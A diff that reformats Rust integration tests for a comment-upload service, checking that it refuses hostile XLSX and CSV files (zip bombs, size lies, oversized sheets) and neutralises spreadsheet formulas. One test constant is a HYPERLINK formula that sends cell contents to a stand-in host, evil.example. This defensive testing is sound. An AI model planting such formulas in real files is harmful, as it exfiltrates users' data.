@@ -135,7 +135,12 @@ async fn refused(d: &Demo, file: Vec<u8>) -> (u16, String, String) {
 async fn still_serves(d: &Demo) {
     let before = d.count(&d.open_cycle).await;
     let (status, body) = d
-        .upload(Some(&d.kenya), &d.open_cycle, XLSX, workbook(&heading_and_comment(), None))
+        .upload(
+            Some(&d.kenya),
+            &d.open_cycle,
+            XLSX,
+            workbook(&heading_and_comment(), None),
+        )
         .await;
     assert_eq!(status, 201, "a hand-made workbook imports: {body}");
     assert_eq!(d.count(&d.open_cycle).await, before + 1);
@@ -177,7 +182,11 @@ async fn hostile_workbooks_are_refused_and_the_server_stays_up(b: Backend) {
         "the sheet has a cell in row 1048576: at most 5000 comments per upload (rows 2 to 5001)"
     );
     let wide = workbook(
-        &format!(r#"<row r="1">{}{}</row>"#, inline("A1", "Clause"), inline("XFD1", "x")),
+        &format!(
+            r#"<row r="1">{}{}</row>"#,
+            inline("A1", "Clause"),
+            inline("XFD1", "x")
+        ),
         None,
     );
     let (status, _, msg) = refused(&d, wide).await;
@@ -204,7 +213,10 @@ async fn hostile_workbooks_are_refused_and_the_server_stays_up(b: Backend) {
     }
     let (status, _, msg) = refused(&d, workbook(&rows, None)).await;
     assert_eq!(status, 422, "{msg}");
-    assert!(msg.contains("row 5002: at most 5000 comments per upload"), "{msg}");
+    assert!(
+        msg.contains("row 5002: at most 5000 comments per upload"),
+        "{msg}"
+    );
 
     // A zip bomb: 40 MB of nothing in a few kilobytes.
     let mut bomb = format!(r#"<sst xmlns="{MAIN}">"#);
@@ -234,7 +246,12 @@ async fn hostile_workbooks_are_refused_and_the_server_stays_up(b: Backend) {
     // CSV is held to the same columns.
     let wide_csv = format!("Clause,Type of comment,Comment{}\n", ",".repeat(100));
     let (status, body) = d
-        .upload(Some(&d.kenya), &d.open_cycle, "text/csv", wide_csv.into_bytes())
+        .upload(
+            Some(&d.kenya),
+            &d.open_cycle,
+            "text/csv",
+            wide_csv.into_bytes(),
+        )
         .await;
     assert_eq!(status, 422);
     assert_eq!(
@@ -254,7 +271,11 @@ async fn expanded_size_is_capped_whatever_the_headers_say(b: Backend) {
         return;
     };
     let before = d.count(&d.open_cycle).await;
-    let big_sheet = format!("<!-- {} -->{}", noise(9 * 1024 * 1024), heading_and_comment());
+    let big_sheet = format!(
+        "<!-- {} -->{}",
+        noise(9 * 1024 * 1024),
+        heading_and_comment()
+    );
     let file = workbook(&big_sheet, None);
     assert!(file.len() < 4 * 1024 * 1024, "under the upload limit");
     let (status, code, msg) = refused(&d, file.clone()).await;
@@ -268,7 +289,10 @@ async fn expanded_size_is_capped_whatever_the_headers_say(b: Backend) {
     lie_about_size(&mut liar, "xl/worksheets/sheet1.xml", 100);
     let (status, code, msg) = refused(&d, liar).await;
     assert_eq!((status, code.as_str()), (413, "PAYLOAD_TOO_LARGE"), "{msg}");
-    assert!(msg.starts_with("the XLSX workbook expands to more than 8388608 bytes"), "{msg}");
+    assert!(
+        msg.starts_with("the XLSX workbook expands to more than 8388608 bytes"),
+        "{msg}"
+    );
 
     // Shared strings past what 5,000 rows of 64 columns need, none declared.
     let strings = vec!["a"; 330_000];
@@ -302,7 +326,9 @@ async fn rights_and_cycle_are_checked_before_the_file_is_read(b: Backend) {
             assert_eq!(message(&body), "review cycle not found");
         }
         // A cycle that takes no comments.
-        let (status, body) = d.upload(Some(&d.kenya), &d.done_cycle, XLSX, file.clone()).await;
+        let (status, body) = d
+            .upload(Some(&d.kenya), &d.done_cycle, XLSX, file.clone())
+            .await;
         assert_eq!(status, 409, "{body}");
         assert_eq!(body["errors"][0]["extensions"]["code"], "CYCLE_CLOSED");
     }
@@ -313,7 +339,8 @@ const INJECTION: &str = r#"=HYPERLINK("http://evil.example/?leak="&A2&B2,"Click"
 
 async fn csv_cells_never_open_as_formulas_and_round_trip(b: Backend) {
     let Some(d) = demo(b).await else { return };
-    let submit = "mutation($i: SubmitCommentInput!) { submitComment(input: $i) { comment { id } } }";
+    let submit =
+        "mutation($i: SubmitCommentInput!) { submitComment(input: $i) { comment { id } } }";
     let cases = [
         (INJECTION, "-1 point"),
         ("+33 1 23 45 67 89", "@SUM(A1:A9)"),
@@ -362,7 +389,9 @@ async fn csv_cells_never_open_as_formulas_and_round_trip(b: Backend) {
         w.write_record(r).expect("csv");
     }
     let upload = w.into_inner().expect("csv");
-    let (status, body) = d.upload(Some(&d.kenya), &d.open_cycle, "text/csv", upload).await;
+    let (status, body) = d
+        .upload(Some(&d.kenya), &d.open_cycle, "text/csv", upload)
+        .await;
     assert_eq!(status, 201, "{body}");
     let ids: Vec<Value> = body["comments"]
         .as_array()
@@ -390,7 +419,12 @@ async fn csv_cells_never_open_as_formulas_and_round_trip(b: Backend) {
     assert_eq!(back, want);
     // The ordinary template is untouched by the guard.
     let (status, _) = d
-        .upload(Some(&d.kenya), &d.open_cycle, "text/csv", TEMPLATE.as_bytes().to_vec())
+        .upload(
+            Some(&d.kenya),
+            &d.open_cycle,
+            "text/csv",
+            TEMPLATE.as_bytes().to_vec(),
+        )
         .await;
     assert_eq!(status, 201);
 }
